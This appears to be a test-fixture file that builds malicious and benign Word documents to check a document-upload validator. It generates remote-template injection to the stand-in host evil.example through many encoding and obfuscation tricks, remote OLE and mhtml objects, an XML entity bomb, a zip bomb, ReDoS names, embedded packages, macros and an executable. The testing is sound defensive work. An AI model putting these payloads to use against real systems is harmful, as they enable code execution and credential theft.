import { crc32 } from 'node:zlib';
import { makeCompound, makeDocWith, makeDocxWith, wordParts, xml } from './office.ts';
import { makeZip, type ZipEntry } from './zip.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = '0003000C-0000-0000-C000-000000000046';
const NEWER_PACKAGE = 'F20DA720-C02F-11CE-927B-0800095AE340';
const PAINTBRUSH = '0003000A-0000-0000-C000-000000000046';
const BITMAP = 'D3E34B21-9D75-101A-8C3D-00AA001A1652';
const LINKED_OBJECT = '00000300-0000-0000-C000-000000000046';
const OLD_NATIVE = '\u0001Ole10Native';

interface Relationship {
  type: string;
  target: string;
  /** The part whose relationships these are; the document by default. */
  of?: string;
  mode?: 'External' | 'Internal';
  strict?: boolean;
}

const escapeXml = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

function relationships({ type, target, mode = 'External', strict = false }: Relationship): string {
  const family = strict ? 'http://purl.oclc.org/ooxml/officeDocument/relationships' : OFFICE;
  return (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rId1" Type="${family}/${type}" Target="${escapeXml(target)}" TargetMode="${mode}"/></Relationships>`
  );
}

const withRelationship = (relationship: Relationship) => () =>
  makeDocxWith({
    name: `word/_rels/${relationship.of ?? 'document.xml'}.rels`,
    bytes: xml(relationships(relationship)),
  });

const template = (target: string) =>
  withRelationship({ of: 'settings.xml', type: 'attachedTemplate', target });

const withRelationshipsText = (text: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
  makeDocxWith({ name, bytes: Buffer.from(text as string) });

const remoteTemplate = relationships({ type: 'attachedTemplate', target: 'https://evil.example/a.dotm' });
const withDeclaration = (text: string) => `<?xml version="1.0" encoding="UTF-8"?>${text}`;

const withObject = (bytes: Buffer, name = 'word/embeddings/oleObject1.bin') =>
  makeDocxWith({ name, bytes, isDeflated: true });

/** The extra field that gives the entry another name for readers that support it. */
function otherName(of: string, name: string): Buffer {
  const field = Buffer.alloc(9 + name.length);
  field.writeUInt16LE(0x7075, 0);
  field.writeUInt16LE(5 + name.length, 2);
  field.writeUInt8(1, 4);
  field.writeUInt32LE(crc32(of), 5);
  field.write(name, 9);
  return field;
}

/** Names for which a regular expression that looks for a folder at any slash takes very long. */
function makeLongNames(): Buffer {
  const names = Array.from({ length: 36 }, (_, index): ZipEntry => {
    const name = `${index}/${'activeX/'.repeat(8_125)}`.slice(0, 65_000);
    return { name: `${name}\n`, isUtf8: true };
  });
  return makeDocxWith(...names);
}

/** Files that a superficial check accepts as a Word document or a .doc, and that do harm when opened. */
export const refusedDocuments: Record<string, () => Buffer> = {
  'a Word document of part names without end': makeLongNames,
  'a Word document with a part name of 513 bytes': () => makeDocxWith({ name: `word/${'a'.repeat(508)}` }),
  'a Word document with a part name of 171 letters and 513 bytes': () =>
    makeDocxWith({ name: 'क'.repeat(171), isUtf8: true }),
  'a Word document with a long part name beside a short one': () =>
    makeDocxWith({ name: 'word/a.xml', extra: otherName('word/a.xml', `word/${'a'.repeat(600)}`) }),
  'a Word document with a line break in a part name': () =>
    makeDocxWith({ name: 'word/run.exe\n', isUtf8: true }),
  'a Word document with a line break in a part name of the old code page': () =>
    makeDocxWith({ name: 'word/run.exe\n' }),
  'a Word document with a control character of Unicode in a part name': () =>
    makeDocxWith({ name: 'word/run.exe\u0085', isUtf8: true }),
  'a Word document with a part of one name in two letter cases': () =>
    makeDocxWith({ name: 'Word/Document.xml', bytes: xml('<document/>') }),
  'a Word document with a part packed in a way that Word does not know': () => {
    const bytes = makeDocxWith({ name: 'word/a.xml' });
    const at = bytes.lastIndexOf('word/a.xml') - 36;
    bytes.writeUInt16LE(12, at);
    return bytes;
  },
  'a Word document with a part that unpacks to more than it says': () =>
    makeDocxWith({
      name: 'word/media/a.bin',
      bytes: Buffer.alloc(500_000),
      isDeflated: true,
      declaredBytes: 9,
    }),

  'a Word document with a template of another place': template('https://evil.example/a.dotm'),
  'a Word document with a template of another place, of the strict kind': withRelationship({
    of: 'settings.xml',
    type: 'attachedTemplate',
    target: 'https://evil.example/a.dotm',
    strict: true,
  }),
  'a Word document with a template of a share': template('\\\\evil.example\\share\\a.dotm'),
  'a Word document with a template of a share, as an address': template('file://evil.example/share/a.dotm'),
  'a Word document with a template of a share behind slashes': template('file:///\\\\evil.example\\a.dotm'),
  'a Word document with a template of a share, written in codes': template(
    'file:///%5C%5Cevil.example%5Ca.dotm',
  ),
  'a Word document with a template of a share behind a space': template(' //evil.example/a.dotm'),
  'a Word document with a template that is called a link': withRelationship({
    of: 'settings.xml',
    type: 'hyperlink',
    target: 'https://evil.example/a.dotm',
  }),
  'a Word document with a template that claims to be within': withRelationship({
    of: 'settings.xml',
    type: 'attachedTemplate',
    target: 'https://evil.example/a.dotm',
    mode: 'Internal',
  }),
  'a Word document whose template stands in a part of odd letter case': () =>
    withRelationshipsText(withDeclaration(remoteTemplate), 'word/_RELS/settings.xml.RELS'),
  'a Word document whose template is written in character codes': () =>
    withRelationshipsText(
      withDeclaration(remoteTemplate.replace('attachedTemplate', '&#97;ttachedTemplat&#x65;')),
    ),
  'a Word document whose template stands behind a prefix': () =>
    withRelationshipsText(
      withDeclaration(
        remoteTemplate.replaceAll('<R', '<p:R').replaceAll('</R', '</p:R').replace('xmlns=', 'xmlns:p='),
      ),
    ),
  'a Word document whose template is written in UTF-16': () =>
    withRelationshipsText(Buffer.from(`\ufeff${remoteTemplate}`, 'utf16le')),
  'a Word document whose relationships are of another encoding': () =>
    withRelationshipsText(
      `<?xml version="1.0" encoding="UTF-7"?><Relationships>+ADw-Relationship+AD4-</Relationships>`,
    ),
  'a Word document whose relationships are no XML': () => withRelationshipsText('Relationships'),
  'a Word document whose relationships define entities': () =>
    withRelationshipsText(
      `<?xml version="1.0"?><!DOCTYPE R [<!ENTITY a "https://evil.example/">]>${remoteTemplate.replace('https://evil.example/', '&a;')}`,
    ),
  'a Word document whose relationships multiply entities': () => {
    const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`);
    return withRelationshipsText(
      `<?xml version="1.0"?><!DOCTYPE R [<!ENTITY e0 "lol">${entities.join('')}]><R>&e9;</R>`,
    );
  },
  'a Word document with an object of another place': withRelationship({
    type: 'oleObject',
    target: 'https://evil.example/a.html!',
  }),
  'a Word document with an object by way of a mail archive': withRelationship({
    type: 'oleObject',
    target: 'mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html',
  }),
  'a Word document with a frame of another place': withRelationship({
    of: 'webSettings.xml',
    type: 'frame',
    target: 'https://evil.example/a.html',
  }),
  'a Word document with a chapter of another place': withRelationship({
    type: 'subDocument',
    target: 'https://evil.example/a.docx',
  }),
  'a Word document with a picture of a share': withRelationship({
    type: 'image',
    target: 'file://evil.example/share/a.png',
  }),

  'a Word document with a packed file': () => withObject(makeCompound([OLD_NATIVE], { '': PACKAGE })),
  'a Word document with a packed file of the newer class': () =>
    withObject(makeCompound(['CONTENTS'], { '': NEWER_PACKAGE })),
  'a Word document with a packed file of no class': () => withObject(makeCompound([OLD_NATIVE])),
  'a Word document with a packed file under a picture’s name': () =>
    withObject(makeCompound([OLD_NATIVE], { '': PACKAGE }), 'word/media/image1.png'),
  'a Word document with an object that is linked': () =>
    withObject(makeCompound(['\u0001Ole'], { '': LINKED_OBJECT })),
  'a Word document with a spreadsheet that has macros': () =>
    withObject(makeCompound(['Workbook', '_VBA_PROJECT_CUR/VBA/dir'])),
  'a Word document with a program under another name': () =>
    withObject(Buffer.from('MZ This program cannot be run in DOS mode.'), 'word/embeddings/notes.bin'),
  'a Word document with a chapter in rich text': () =>
    withObject(Buffer.from('{\\rtf1 }'), 'word/afchunk.rtf'),
  'a Word document with more in its objects than anybody reads': () =>
    makeDocxWith(
      ...Array.from({ length: 40 }, (_, index) => ({
        name: `word/embeddings/oleObject${index}.bin`,
        bytes: Buffer.concat([makeCompound(['CONTENTS']), Buffer.alloc(1_000_000)]),
        isDeflated: true,
      })),
    ),
  'a .doc with a packed file': () =>
    makeDocWith([`ObjectPool/_1/${OLD_NATIVE}`], { 'ObjectPool/_1': PACKAGE }),
  'a .doc with macros in one of its objects': () => makeDocWith(['ObjectPool/_1/_VBA_PROJECT_CUR/VBA/dir']),
};

/** Parts of honest documents that too strict a check would refuse. */
export const welcomeDocuments: Record<string, () => Buffer> = {
  'a plain one': () => makeDocxWith(),
  'a deflated one': () => makeZip(wordParts.map((part) => ({ ...part, isDeflated: true }))),
  'with a part name of 512 bytes': () => makeDocxWith({ name: `word/${'a'.repeat(507)}` }),
  'with a picture named in Hindi': () =>
    makeDocxWith({ name: 'word/media/फोटो.png', bytes: Buffer.from('\x89PNG', 'latin1'), isUtf8: true }),
  'with a link': withRelationship({ type: 'hyperlink', target: 'https://www.linkedin.com/in/asha?a=1&b=2' }),
  'with a mail address': withRelationship({ type: 'hyperlink', target: 'mailto:asha@example.com' }),
  'with a link to a share': withRelationship({ type: 'hyperlink', target: 'file://server/share/a.pdf' }),
  'with a linked picture': withRelationship({ type: 'image', target: 'https://cdn.example/photo.jpg' }),
  'with a picture that was pasted from a page': withRelationship({
    type: 'image',
    target: 'file:///C:\\Users\\asha\\AppData\\Local\\Temp\\msohtmlclip1\\01\\clip_image001.png',
  }),
  'with a template of its writer’s machine': template(
    'file:///C:\\Users\\asha\\AppData\\Roaming\\Microsoft\\Templates\\Basic%20resume.dotx',
  ),
  'with a template of its writer’s machine, as older programs write it': template('C:\\Templates\\cv.dot'),
  'with a template of a Mac': template('file://localhost/Users/asha/Templates/cv.dotx'),
  'with a template by name': template('Normal.dotm'),
  'with relationships in UTF-16': () =>
    withRelationshipsText(
      Buffer.from(`\ufeff${relationships({ type: 'hyperlink', target: 'https://example.com' })}`, 'utf16le'),
      'word/_rels/document.xml.rels',
    ),
  'with a spreadsheet of the old kind': () => withObject(makeCompound(['Workbook'])),
  'with a picture by Paint': () => withObject(makeCompound([OLD_NATIVE], { '': PAINTBRUSH })),
  'with a bitmap by Paint': () => withObject(makeCompound([OLD_NATIVE], { '': BITMAP })),
  'with a chart’s workbook': () =>
    withObject(makeZip([{ name: 'xl/workbook.xml' }]), 'word/embeddings/Microsoft_Excel_Worksheet.xlsx'),
  'with a font that is hidden behind chance': () =>
    withObject(Buffer.from('MZ by chance'), 'word/fonts/font1.odttf'),
  'by Word for the web': () =>
    makeZip([
      {
        name: '[Content_Types].xml',
        bytes: xml(
          '<Types><Override PartName="/word/document2.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
      },
      { name: 'word/document2.xml', bytes: xml('<document/>') },
    ]),
};

/** The same for the older format. */
export const welcomeDocs: Record<string, () => Buffer> = {
  'with a picture by Paint': () =>
    makeDocWith([`ObjectPool/_1/${OLD_NATIVE}`], { 'ObjectPool/_1': PAINTBRUSH }),
  'with a spreadsheet': () => makeDocWith(['ObjectPool/_1/Workbook']),
};
